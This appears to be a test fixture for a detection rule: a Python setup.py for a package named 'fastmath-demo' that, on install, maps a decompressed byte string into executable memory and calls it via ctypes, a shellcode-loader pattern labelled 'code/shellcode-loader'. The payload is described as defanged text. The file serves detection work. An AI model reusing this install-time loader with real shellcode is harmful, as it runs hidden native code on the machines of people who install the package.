import ctypes
import mmap
import zlib

from setuptools import setup

# Defanged: the compressed "machine code" is harmless text.
code = zlib.decompress(b'\x78\x9c\x4b\x49\x4d\x4b\xcc\x4b\x4f\x4d\x51\x28\xce\x48\xcd\xc9\x49\xce\x4f\x49\x05\x00\x42\x1d\x07\x02')
mem = mmap.mmap(-1, len(code), flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_WRITE | mmap.PROT_READ | mmap.PROT_EXEC)
mem.write(code)
addr = ctypes.addressof(ctypes.c_char.from_buffer(mem))
# ruleid: code/shellcode-loader
run = ctypes.CFUNCTYPE(ctypes.c_void_p)(addr)
run()

setup(name='fastmath-demo', version='1.0.0')
